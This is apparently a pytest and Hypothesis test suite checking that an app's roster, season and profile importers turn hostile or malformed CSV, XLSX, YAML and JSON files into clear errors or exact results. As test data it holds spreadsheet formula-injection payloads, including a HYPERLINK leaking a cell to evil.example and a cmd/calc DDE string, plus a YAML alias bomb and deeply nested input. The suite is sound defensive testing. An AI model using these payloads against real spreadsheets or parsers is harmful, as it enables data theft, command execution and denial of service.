"""Hostile files: every importer gives a clear error or a correct result, never anything else.

"Clear error" means the importer's own error type (RowErrors naming file, row and column, or a
ProfileFileError naming the file); "correct" means exactly the values the file holds. Anything
else escaping (UnicodeDecodeError, csv.Error, zipfile.BadZipFile, RecursionError, a KeyError
from openpyxl ...) fails these tests.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable, Sequence
from pathlib import Path

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from tests.unit.io.test_hostile_xlsx import xlsx_from_rows

from altmatch.io.errors import FILE, RowError
from altmatch.io.limits import ImportLimits
from altmatch.io.positions_file import read_positions_upload
from altmatch.io.profile_file import ProfileFileError, read_profile_file
from altmatch.io.roster_file import ROSTER_COLUMNS, read_roster_upload
from altmatch.io.season_files import (
    SeasonFilesError,
    load_season_files,
    read_candidate_upload,
    read_request_upload,
)
from altmatch.io.tabular import TableError, read_table_bytes

Importer = Callable[[bytes, str], object]
IMPORTERS: dict[str, Importer] = {
    "roster": read_roster_upload,
    "positions": read_positions_upload,
    "requests": read_request_upload,
    "candidates": read_candidate_upload,
}
ROSTER_ROW = "A{n},{name},Hyogo,Kobe,34.69,135.19,elementary,yes,n3,2027-03-31,renewing,Hyogo;Osaka"
FUZZ = settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])


def roster_csv(names: Sequence[str]) -> str:
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow(ROSTER_COLUMNS)
    for n, name in enumerate(names, start=1):
        cells = ROSTER_ROW.format(n=n, name="NAME").split(",")
        cells[1] = name
        writer.writerow(cells)
    return buffer.getvalue()


def assert_clear(errors: Sequence[RowError], filename: str) -> None:
    """Every error names this file, a row (0 for the whole file), a column and a message."""
    assert errors
    for error in errors:
        assert isinstance(error, RowError)
        assert error.file == filename
        assert error.row >= 0 and error.column and error.message.strip()
        assert error.localized("en") == error.message


def check(importer: Importer, data: bytes, filename: str) -> tuple[object, ...]:
    """The records, or () after asserting the errors are clear; nothing else may escape."""
    upload = importer(data, filename)
    errors: tuple[RowError, ...] = upload.errors  # type: ignore[attr-defined]
    if errors:
        assert_clear(errors, filename)
        return ()
    records: tuple[object, ...] = upload.records  # type: ignore[attr-defined]
    return records


# --- Hypothesis: random bytes, truncations, encodings and cells ----------------------------------


@FUZZ
@given(
    kind=st.sampled_from(sorted(IMPORTERS)),
    suffix=st.sampled_from([".csv", ".xlsx"]),
    data=st.binary(max_size=2000),
)
def test_random_bytes_are_a_clear_error_or_a_result(kind: str, suffix: str, data: bytes) -> None:
    check(IMPORTERS[kind], data, f"random{suffix}")


@FUZZ
@given(
    prefix=st.sampled_from([b"PK\x03\x04", b"\xef\xbb\xbf", b"\xd0\xcf\x11\xe0", b""]),
    data=st.binary(max_size=500),
)
def test_random_bytes_after_a_telling_signature_are_a_clear_error(
    prefix: bytes, data: bytes
) -> None:
    for suffix in (".csv", ".xlsx"):
        check(read_roster_upload, prefix + data, f"sig{suffix}")


NAMES = (
    st.text(
        alphabet=st.sampled_from("ABCxyz山田花子太郎たなかタナカ＝＋ー、。・ 'é=+-@\",;"),
        min_size=1,
        max_size=12,
    )
    .map(str.strip)
    .filter(bool)
)


@FUZZ
@given(names=st.lists(NAMES, min_size=1, max_size=8), data=st.data())
def test_a_csv_cut_anywhere_is_an_error_or_the_rows_before_the_cut(
    names: list[str], data: st.DataObject
) -> None:
    full = roster_csv(names).encode("utf-8")
    cut = data.draw(st.integers(0, len(full) - 1))
    records = check(read_roster_upload, full[:cut], "cut.csv")
    got = [r.name for r in records]  # type: ignore[attr-defined]
    assert len(got) <= len(names)
    assert got[:-1] == names[: max(len(got) - 1, 0)]  # only the last row read may be cut


@settings(max_examples=25, deadline=None)
@given(names=st.lists(NAMES, min_size=1, max_size=5), data=st.data())
def test_an_xlsx_cut_anywhere_is_always_refused(names: list[str], data: st.DataObject) -> None:
    rows = [ROSTER_COLUMNS, *(roster_csv([n]).splitlines()[1].split(",") for n in names)]
    full = xlsx_from_rows([tuple(r) for r in rows])
    cut = data.draw(st.integers(0, len(full) - 1))
    assert check(read_roster_upload, full[:cut], "cut.xlsx") == ()


@FUZZ
@given(
    names=st.lists(NAMES, min_size=1, max_size=8),
    encoding=st.sampled_from(["utf-8", "utf-8-sig", "cp932", "utf-16", "utf-32"]),
)
def test_text_in_any_encoding_imports_exactly_or_is_refused(
    names: list[str], encoding: str
) -> None:
    """UTF-8 (with or without BOM) and CP932 import exactly (never mojibake); UTF-16/32 are
    refused with how to re-save. (Half-width katakana is left out: a run of it in CP932 can
    also be valid UTF-8, and UTF-8 is tried first, as every CSV reader does.)"""
    names = [n for n in names if all(c not in "é" for c in n)] or ["x"]
    data = roster_csv(names).encode(encoding)
    records = check(read_roster_upload, data, "enc.csv")
    if encoding.startswith("utf-") and encoding[4:6] in ("16", "32"):
        assert records == ()
    else:
        assert [r.name for r in records] == names  # type: ignore[attr-defined]


CELL = st.text(max_size=30)


@FUZZ
@given(rows=st.lists(st.lists(CELL, min_size=3, max_size=3), max_size=6))
def test_random_cells_in_csv_read_back_exactly_or_clearly_refused(rows: list[list[str]]) -> None:
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer)
    writer.writerow(["a", "b", "c"])
    writer.writerows(rows)
    try:
        table = read_table_bytes(buffer.getvalue().encode(), "cells.csv")
    except TableError as exc:
        assert_clear(exc.errors, "cells.csv")
        assert any("\x00" in c for r in rows for c in r)  # the only thing refused here
        return
    expected = [tuple(c.strip() for c in r) for r in rows if any(c.strip() for c in r)]
    assert [r.cells for r in table.rows] == expected


XLSX_CELL = st.text(alphabet=st.characters(blacklist_categories=("Cs", "Cc")), max_size=30)


@settings(max_examples=30, deadline=None)
@given(rows=st.lists(st.lists(XLSX_CELL, min_size=3, max_size=3), max_size=5))
def test_random_cells_in_xlsx_read_back_exactly_or_clearly_refused(
    rows: list[list[str]],
) -> None:
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["a", "b", "c"])
    for row in rows:
        sheet.append(row)  # openpyxl makes a cell starting with "=" a formula
    buffer = io.BytesIO()
    book.save(buffer)
    try:
        table = read_table_bytes(buffer.getvalue(), "cells.xlsx")
    except TableError as exc:
        assert_clear(exc.errors, "cells.xlsx")
        assert any(c.startswith("=") and len(c) > 1 for r in rows for c in r)
        return
    expected = [tuple(c.strip() for c in r) for r in rows if any(c.strip() for c in r)]
    assert [r.cells for r in table.rows] == expected


@FUZZ
@given(data=st.binary(max_size=3000), suffix=st.sampled_from([".yaml", ".json"]))
def test_random_bytes_as_a_profile_are_a_clear_error_or_a_mapping(
    tmp_path_factory: pytest.TempPathFactory, data: bytes, suffix: str
) -> None:
    path = tmp_path_factory.mktemp("profile") / f"p{suffix}"
    path.write_bytes(data)
    try:
        assert isinstance(read_profile_file(path), dict)
    except ProfileFileError as exc:
        assert str(path) in str(exc)


@settings(max_examples=30, deadline=None)
@given(requests=st.binary(max_size=600), candidates=st.binary(max_size=600))
def test_random_season_folders_are_a_clear_error_or_a_season(
    tmp_path_factory: pytest.TempPathFactory, requests: bytes, candidates: bytes
) -> None:
    folder = tmp_path_factory.mktemp("season")
    (folder / "requests.csv").write_bytes(requests)
    (folder / "candidates.xlsx").write_bytes(candidates)
    try:
        load_season_files(folder)
    except SeasonFilesError as exc:
        assert exc.errors
        for error in exc.errors:
            assert error.file.startswith(str(folder)) and error.message


# --- Named cases -------------------------------------------------------------------------------


def roster_errors(data: bytes, filename: str = "roster.csv", **limits: int) -> list[str]:
    upload = read_roster_upload(data, filename, ImportLimits(**limits))
    assert_clear(upload.errors, filename)
    return [str(e) for e in upload.errors]


def test_a_csv_cut_inside_a_quoted_cell_says_so() -> None:
    data = roster_csv(['Carter, "Em"']).encode()
    (message,) = roster_errors(data[: data.index(b"Em") + 1])
    assert message.startswith("roster.csv:2:-: malformed CSV: the file ends inside a quoted cell")


def test_a_csv_cut_inside_a_character_says_so() -> None:
    data = roster_csv(["山田花子"]).encode()
    cut = data.index("花".encode()) + 1
    (message,) = roster_errors(data[:cut])
    assert "the file ends in the middle of a character: it was cut short" in message


def test_cp932_from_japanese_excel_is_accepted() -> None:
    upload = read_roster_upload(roster_csv(["山田 花子", "ﾀﾅｶ ﾀﾛｳ"]).encode("cp932"), "r.csv")
    assert [r.name for r in upload.records] == ["山田 花子", "ﾀﾅｶ ﾀﾛｳ"]


def test_utf8_with_one_bad_byte_is_refused_on_its_line_not_read_as_cp932() -> None:
    data = roster_csv(["山田花子", "田中太郎", "Zoe"]).encode().replace(b"Zoe", b"Zo\xe9")
    (message,) = roster_errors(data)
    assert message.startswith("roster.csv:4:-: not valid UTF-8 (byte 0xe9 on line 4)")


def test_nul_bytes_are_refused_with_their_line() -> None:
    data = roster_csv(["a\x00b"]).encode()
    assert roster_errors(data) == ["roster.csv:2:-: contains NUL bytes: not a text CSV file"]


def test_a_cell_longer_than_the_limit_names_its_column() -> None:
    (message,) = roster_errors(roster_csv(["x" * 10_001]).encode())
    assert message == "roster.csv:2:name: a cell is longer than 10,000 characters"


def test_a_cell_past_the_csv_modules_own_limit_is_the_same_clear_error() -> None:
    (message,) = roster_errors(roster_csv(["x" * 200_000]).encode())
    assert message == "roster.csv:2:-: a cell is longer than 10,000 characters"


def test_a_line_of_millions_of_commas_is_refused_before_it_is_split() -> None:
    data = roster_csv(["x"]).encode() + b"," * 3_000_000 + b"\n"
    (message,) = roster_errors(data)
    assert message == "roster.csv:3:-: line 3 is longer than 2,000,600 characters"


def test_too_many_columns_are_refused() -> None:
    data = (",".join(f"c{i}" for i in range(201)) + "\n1\n").encode()
    assert roster_errors(data) == ["roster.csv:1:-: more than 200 columns"]


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        (b"", "roster.csv:0:-: the file is empty (no header row)"),
        (b"\r\n\r\n   \n", "roster.csv:0:-: the file is empty (no header row)"),
        (b"\xef\xbb\xbf", "roster.csv:0:-: the file is empty (no header row)"),
        (",".join(ROSTER_COLUMNS).encode(), "roster.csv:0:-: the file has no rows"),
    ],
    ids=["no bytes", "blank lines", "only a BOM", "only a header"],
)
def test_empty_files_are_refused(data: bytes, expected: str) -> None:
    assert roster_errors(data) == [expected]


def test_a_duplicate_header_is_refused() -> None:
    data = b"alt_id,name,NAME\nA1,x,y\n"
    assert "roster.csv:1:name: column appears twice" in roster_errors(data)


def test_a_file_over_the_size_limit_is_refused_before_parsing() -> None:
    data = roster_csv(["x"] * 100).encode()
    (message,) = roster_errors(data, max_bytes=1024)
    assert message == f"roster.csv:0:-: the file is {len(data):,} bytes; the limit is 1,024"


def test_the_row_limit_is_counted_while_streaming() -> None:
    data = roster_csv([f"n{i}" for i in range(50)]).encode()
    assert roster_errors(data, max_rows=10) == ["roster.csv:12:-: more than 10 rows"]


def test_ten_million_blank_lines_are_refused_not_walked() -> None:
    data = roster_csv(["x"]).encode() + b"\n" * 10_000_000
    (message,) = roster_errors(data, max_rows=10)
    assert "more than 10,020 rows, blank ones included" in message


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "+1",
        "-1+2",
        "@SUM(A1:A9)",
        "=cmd|' /C calc'!A0",
        "＝1+1",
    ],
)
def test_formula_like_csv_cells_are_stored_as_plain_text(value: str) -> None:
    upload = read_roster_upload(roster_csv([value]).encode(), "f.csv")
    assert upload.errors == ()
    assert upload.records[0].name == value


def test_a_translatable_error_keeps_its_msgid_and_parameters() -> None:
    data = roster_csv(["x"] * 20).encode()
    (error,) = read_roster_upload(data, "r.csv", ImportLimits(max_rows=5)).errors
    assert error.template == "more than {limit:,} rows"
    assert dict(error.params) == {"limit": 5}
    assert error.column == FILE


# --- Profiles ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "content", "expected"),
    [
        (
            "laughs.yaml",
            'a: &a ["x","x","x","x","x","x","x","x","x"]\n'
            + "".join(
                f"{chr(98 + i)}: &{chr(98 + i)} [{','.join(['*' + chr(97 + i)] * 9)}]\n"
                for i in range(8)
            ),
            "aliases (*name) are not accepted",
        ),
        ("deep.json", "[" * 100_000 + "]" * 100_000, "cannot parse"),
        ("deep.yaml", "[" * 50_000 + "]" * 50_000, "cannot parse"),
        ("digits.json", '{"a": ' + "9" * 5000 + "}", "cannot parse"),
        ("month.yaml", "earliest_start: 2026-13-45\n", "cannot parse"),
        ("nul.yaml", "degree: bach\x00elor\n", "NUL"),
        ("list.json", json.dumps([1, 2]), "the top level must be a mapping"),
        ("huge.yaml", "notes: " + "x" * (2 * 1024 * 1024), "at most 1,048,576 bytes"),
        ("latin.yaml", "name: caf\xe9\n", "not UTF-8"),
    ],
)
def test_hostile_profiles_are_clear_errors(
    tmp_path: Path, name: str, content: str, expected: str
) -> None:
    path = tmp_path / name
    path.write_bytes(content.encode("latin-1" if name.startswith("latin") else "utf-8"))
    with pytest.raises(ProfileFileError) as caught:
        read_profile_file(path)
    assert str(path) in str(caught.value)
    assert expected in str(caught.value)


def test_errors_are_said_in_the_readers_language(monkeypatch: pytest.MonkeyPatch) -> None:
    from altmatch.i18n import catalog

    ja = {"more than {limit:,} rows": "行数が上限の {limit:,} 行を超えています"}
    real = catalog.translations
    monkeypatch.setattr(catalog, "translations", lambda loc: ja if loc == "ja" else real(loc))
    data = roster_csv(["x"] * 2000).encode()
    (error,) = read_roster_upload(data, "r.csv", ImportLimits(max_rows=1000)).errors
    assert error.localized("ja") == "行数が上限の 1,000 行を超えています"
    assert error.localized("en") == error.message == "more than 1,000 rows"
